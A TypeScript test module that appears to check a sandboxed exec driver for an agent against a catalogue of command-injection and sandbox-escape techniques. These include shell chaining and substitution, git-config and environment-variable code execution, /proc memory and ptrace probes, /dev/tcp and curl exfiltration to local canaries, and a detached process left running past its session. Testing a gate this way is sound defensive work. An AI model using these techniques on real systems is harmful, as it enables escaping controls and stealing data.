/**
 * Commands that a gate which reads them like a person would let through, or that reach for what is
 * none of theirs. Each runs outside, where it must do the harm, and then in the real exec driver
 * under a right ticket, where it must not; the narrow policy must not allow it either.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import fs from "node:fs";
import path from "node:path";
import type { SuiteCase } from "../../suites/suite.ts";
import type { Listener } from "../canaries.ts";
import { caseOf, type Place } from "./place.ts";

export interface CommandAttack {
  readonly id: string;
  /** `harm` is a line of shell that reads and writes outside and says so. */
  readonly argv: (harm: string, place: Place) => readonly string[];
  /** Of the caller: a driver must not hand it on. */
  readonly env?: (place: Place) => Readonly<Record<string, string>>;
  /** The harm is that something arrives. */
  readonly arrives?: Listener;
  /** Why its worst part is not even begun inside. */
  readonly unbegun?: string;
  /** Judged by what its sandbox lets it do alone: the words are harmless. */
  readonly decided?: false;
}

const sh = (script: string): readonly string[] => ["/bin/sh", "-c", script];
const bash = (script: string): readonly string[] => ["/bin/bash", "-c", script];
const perl = (script: string): readonly string[] => ["/usr/bin/perl", "-e", script];
const quoted = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`;

/** Both of a shell's ways to say more than its first words. */
const shellAttacks: readonly CommandAttack[] = [
  { id: "chaining/semicolon", argv: (harm) => sh(`git status; ${harm}`) },
  { id: "chaining/and", argv: (harm) => sh(`git status && ${harm}`) },
  { id: "chaining/or", argv: (harm) => sh(`git status --nothing || ${harm}`) },
  { id: "chaining/background", argv: (harm) => sh(`git status & ${harm}`) },
  { id: "newline/line-feed", argv: (harm) => sh(`git status\n${harm}`) },
  { id: "pipe-and/both-streams", argv: (harm) => bash(`git status |& sh -c ${quoted(harm)}`) },
  { id: "substitution/dollar", argv: (harm) => sh(`git log -n "$(${harm}; echo 1)"`) },
  { id: "substitution/backticks", argv: (harm) => sh(`git log -n \`${harm}; echo 1\``) },
  { id: "substitution/process", argv: (harm) => bash(`cat <(${harm}) a.txt`) },
  { id: "substitution/here-document", argv: (harm) => sh(`cat <<X\n$(${harm})\nX\n`) },
  { id: "substitution/arithmetic", argv: (harm) => bash(`x='a[$(${harm})]'; echo $((x))`) },
  { id: "eval/eval", argv: (harm) => sh(`eval ${quoted(harm)}`) },
  { id: "eval/assembled", argv: (harm) => sh(`a=ev; b=al; $a$b ${quoted(harm)}`) },
  { id: "eval/trap", argv: (harm) => sh(`trap ${quoted(harm)} EXIT`) },
  { id: "wrapper-shell/env", argv: (harm) => ["env", "sh", "-c", harm] },
  { id: "wrapper-shell/xargs", argv: (harm) => sh(`echo x | xargs -I@ sh -c ${quoted(harm)}`) },
  {
    id: "wrapper-shell/find",
    argv: (harm) => ["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", harm, ";"],
  },
  { id: "wrapper-shell/nohup", argv: (harm) => ["nohup", "sh", "-c", harm] },
  { id: "wrapper-shell/timeout", argv: (harm) => ["timeout", "9", "sh", "-c", harm] },
  { id: "wrapper-shell/setsid", argv: (harm) => ["setsid", "-w", "sh", "-c", harm] },
  {
    id: "wrapper-shell/awk",
    argv: (harm) => ["awk", `BEGIN { system("${harm.replaceAll('"', '\\"')}") }`],
  },
  {
    id: "wrapper-shell/tar",
    argv: (harm) => [
      "tar",
      "-cf",
      "/dev/null",
      "a.txt",
      "--checkpoint=1",
      `--checkpoint-action=exec=${harm}`,
    ],
  },
  {
    id: "wrapper-shell/loader",
    argv: (harm) => ["/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", harm],
  },
  { id: "quote-blindness/double", argv: (harm) => sh(`git log "--oneline" -n "1$(${harm})"`) },
  { id: "quote-blindness/comment", argv: (harm) => sh(`git status #'\n${harm} #'`) },
  { id: "quote-blindness/ansi-c", argv: (harm) => bash(`git status $';' ; ${harm}`) },
  {
    id: "env-prefix/assignment",
    argv: (harm) => sh(`GIT_EXTERNAL_DIFF="sh -c ${quoted(harm)}" git diff`),
  },
  {
    id: "env-prefix/env",
    argv: (harm) => ["env", `GIT_EXTERNAL_DIFF=sh -c ${quoted(harm)}`, "git", "diff"],
  },
  {
    id: "env-prefix/bash-env",
    argv: (harm) => sh(`echo ${quoted(harm)} > be; BASH_ENV=be bash -c true; rm be`),
  },
  {
    id: "built-in-poisoning/export-pager",
    argv: (harm) => ["script", "-qec", `export GIT_PAGER=${quoted(harm)}; git -p log`, "/dev/null"],
    unbegun: "no terminal",
  },
  {
    id: "built-in-poisoning/function",
    argv: (harm) => bash(`git() { ${harm}; }; export -f git; git status`),
  },
  {
    id: "built-in-poisoning/path",
    argv: (harm) =>
      sh(
        `mkdir -p p; printf '#!/bin/sh\n%s\n' ${quoted(harm)} > p/git; chmod +x p/git; PATH=$PWD/p:$PATH git status; rm -r p`,
      ),
  },
  {
    id: "git-configuration/core-pager",
    argv: (harm) => ["script", "-qec", `git -c core.pager=${quoted(harm)} log`, "/dev/null"],
    unbegun: "no terminal",
  },
  {
    id: "git-configuration/fsmonitor",
    argv: (harm) => ["git", "-c", `core.fsmonitor=${harm}; true`, "status"],
  },
  {
    id: "git-configuration/alias",
    argv: (harm) => ["git", "-c", `alias.status2=!${harm}`, "status2"],
  },
  {
    id: "git-configuration/output",
    argv: (_, { outside }) => ["git", "log", `--output=${outside}/harm.txt`],
  },
  {
    id: "git-configuration/ssh-command",
    argv: (harm) =>
      sh(`GIT_SSH_COMMAND=${quoted(`sh -c ${quoted(harm)}`)} git ls-remote ssh://h/r`),
  },
  {
    id: "git-configuration/ssh-config",
    argv: (harm) => [
      "git",
      "-c",
      `core.sshCommand=sh -c ${quoted(harm)}`,
      "ls-remote",
      "ssh://h/r",
    ],
  },
];

/** Poisoned surroundings of the caller, and a command whose own words are harmless. */
const ambientAttacks: readonly CommandAttack[] = [
  {
    id: "poisoned-environment/bash-env",
    argv: () => bash("true"),
    env: ({ base }) => ({ BASH_ENV: path.join(base, "harm.sh") }),
    decided: false,
  },
  {
    id: "poisoned-environment/git-external-diff",
    argv: () => ["git", "diff"],
    env: ({ base }) => ({ GIT_EXTERNAL_DIFF: path.join(base, "harm.sh") }),
    decided: false,
  },
  {
    id: "poisoned-environment/perl5opt",
    argv: () => perl("1"),
    env: ({ base, outside }) => {
      fs.writeFileSync(path.join(base, "Harm.pm"), `open F,'>','${outside}/harm.txt';print F 1;1;`);
      return { PERL5LIB: base, PERL5OPT: "-MHarm" };
    },
    decided: false,
  },
];

const connectTo = (address: string): string =>
  `use Socket; socket(S,AF_UNIX,SOCK_STREAM,0) and connect(S,pack_sockaddr_un(${address}))`;

/** What the kernel of the machine offers a program. */
const surfaceAttacks: readonly CommandAttack[] = [
  {
    id: "io-uring/setup",
    argv: () =>
      perl(
        `$b="\\0"x120; print "HARM" if syscall(${process.arch === "arm64" ? 425 : 425},4,$b)>=0`,
      ),
    decided: false,
  },
  {
    id: "abstract-sockets/connect",
    argv: (_, { canaries }) => perl(connectTo(`"\\0${canaries.abstractName}"`)),
    arrives: "abstract-connect",
    decided: false,
  },
  {
    id: "x11/abstract-display",
    argv: (_, { canaries }) => [
      "env",
      `DISPLAY=unix:0`,
      ...perl(connectTo(`"\\0${canaries.abstractName}"`)),
    ],
    arrives: "abstract-connect",
    decided: false,
  },
  {
    id: "d-bus/socket-in-the-folder",
    argv: (_, { root }) => perl(connectTo(`"${root}/canary.sock"`)),
    arrives: "unix-connect",
    decided: false,
  },
  {
    id: "ptrace-of-siblings/seize",
    argv: (_, place) =>
      perl(
        `print "HARM" if syscall(${process.arch === "arm64" ? 117 : 101},0x4206,${victimOf(place)},0,0)>=0`,
      ),
    decided: false,
  },
  {
    id: "proc-mem/environment",
    argv: (_, { canary }) =>
      sh(`cat /proc/[0-9]*/environ 2>/dev/null | grep -aq VICTIM=${canary} && echo HARM`),
    decided: false,
  },
  {
    id: "proc-mem/memory",
    argv: (_, place) =>
      perl(
        `open M,"</proc/${victimOf(place)}/maps" or exit; <M>=~/^(\\w+)/; open F,"</proc/${victimOf(place)}/mem"; sysseek F,hex $1,0; print "HARM" if sysread(F,$b,8)==8`,
      ),
    decided: false,
  },
  {
    id: "proc-mem/root-of-another",
    argv: (_, place) =>
      sh(
        `grep -aq ${place.canary} /proc/${victimOf(place)}/root${place.outside}/canary.txt && echo HARM`,
      ),
    decided: false,
  },
  {
    id: "signal/to-a-sibling",
    argv: (_, place) =>
      sh(
        `kill -0 ${victimOf(place)} && grep -aq VICTIM /proc/${victimOf(place)}/environ && echo HARM`,
      ),
    decided: false,
  },
  {
    id: "dns-exfiltration/udp",
    argv: (_, { canaries }) => bash(`echo secret > /dev/udp/127.0.0.1/${canaries.udpPort}`),
    arrives: "udp-send",
  },
  {
    id: "dns-exfiltration/tcp",
    argv: (_, { canaries }) => bash(`echo secret > /dev/tcp/127.0.0.1/${canaries.tcpPort}`),
    arrives: "tcp-connect",
  },
  {
    id: "dns-exfiltration/by-another-program",
    argv: (_, { canaries }) => [
      "curl",
      "-s",
      `http://secret.127.0.0.1.nip.test:${canaries.tcpPort}/`,
      "--resolve",
      `secret.127.0.0.1.nip.test:${canaries.tcpPort}:127.0.0.1`,
    ],
    arrives: "tcp-connect",
  },
  {
    id: "symbolic-link/command",
    argv: (harm, { outside }) => sh(`ln -s ${outside} out; cat out/canary.txt; ${harm}; rm out`),
  },
  {
    id: "hard-link/command",
    argv: (_, { outside }) => sh(`ln ${outside}/canary.txt hard; cat hard; rm -f hard`),
  },
  {
    id: "sub-agent/left-behind",
    argv: (harm) => sh(`setsid sh -c ${quoted(`sleep 0.3; ${harm}`)} & sleep 0.6`),
  },
];

const victims = new WeakMap<Place, number>();
const victimOf = (place: Place): number => victims.get(place) ?? 0;

/** Another program of the same user, with a canary in its environment. */
export const startVictim = (place: Place): Disposable => {
  const child = spawn("/bin/sleep", ["600"], { env: { VICTIM: place.canary }, stdio: "ignore" });
  victims.set(place, child.pid ?? 0);
  return { [Symbol.dispose]: () => void child.kill("SIGKILL") };
};

const outside = async (
  place: Place,
  argv: readonly string[],
  env: Readonly<Record<string, string>>,
): Promise<string> => {
  const [program = "", ...args] = argv;
  const child = spawn(program, args, {
    cwd: place.root,
    env: { PATH: "/usr/local/bin:/usr/bin:/bin", HOME: place.home, ...env },
    stdio: ["ignore", "pipe", "ignore"],
    signal: place.signal,
    timeout: 10_000,
  });
  let out = "";
  child.stdout.setEncoding("utf8").on("data", (text: string) => (out += text));
  await once(child, "close");
  return out;
};

/** Read and written outside, told on stdout, or arrived; and forgotten again. */
const harmOf = (place: Place, said: string, arrives: Listener | undefined): boolean => {
  const leak = path.join(place.root, "leak.txt");
  const written = path.join(place.outside, "harm.txt");
  const leaked = fs.existsSync(leak) && fs.readFileSync(leak, "utf8").includes(place.canary);
  const harm =
    leaked ||
    fs.existsSync(written) ||
    said.includes("HARM") ||
    said.includes(place.canary) ||
    (arrives !== undefined && place.canaries.take(arrives) > 0);
  fs.rmSync(leak, { force: true });
  fs.rmSync(written, { force: true });
  return harm;
};

const saidBy = (value: unknown): string =>
  value instanceof Uint8Array ? Buffer.from(value).toString("utf8") : "";

/** Whether the worst part of what ran inside was begun: it leaves a file in the session's folder. */
const begun = (place: Place): boolean => {
  const file = path.join(place.root, "begun.txt");
  const there = fs.existsSync(file);
  fs.rmSync(file, { force: true });
  return there;
};

export const judgeCommand = async (place: Place, attack: CommandAttack): Promise<SuiteCase> => {
  const harm = `echo x > ${place.root}/begun.txt; cp ${place.outside}/canary.txt ${place.root}/leak.txt; echo x > ${place.outside}/harm.txt`;
  fs.writeFileSync(path.join(place.base, "harm.sh"), `#!/bin/sh\n${harm}\n`, { mode: 0o755 });
  const argv = attack.argv(harm, place);
  const env = attack.env?.(place) ?? {};
  const control = harmOf(place, await outside(place, argv, env), attack.arrives);
  const begins = begun(place) && attack.unbegun === undefined && attack.env === undefined;
  const restore = { ...process.env };
  Object.assign(process.env, env);
  try {
    const args = { argv: [...argv], cwd: place.root };
    const given = await place.driver("exec").prepare("sys::exec", args);
    const verdict = attack.decided === false ? "not asked" : place.verdict(given);
    const ended = await place.act("exec", given);
    const said = `${saidBy(ended.result["stdout"])}${saidBy(ended.result["stderr"])}`;
    const harmed = harmOf(place, saidBy(ended.result["stdout"]), attack.arrives);
    const reached = begun(place);
    return caseOf({
      id: attack.id,
      control,
      held:
        !harmed &&
        verdict !== "allow" &&
        ended.status === "confirmed" &&
        (!begins || reached) &&
        !(attack.env !== undefined && reached),
      expected: "not allowed by the narrow policy; run all the same, it does no harm",
      actual:
        `${verdict}; ${ended.status} ${ended.code}; ${reached ? "begun" : "not begun"}, ` +
        `${harmed ? "HARM" : "no harm"}: ${said.slice(0, 160)}`,
    });
  } finally {
    process.env = restore;
  }
};

export const commandAttacks: readonly CommandAttack[] = [
  ...shellAttacks,
  ...ambientAttacks,
  ...surfaceAttacks,
];
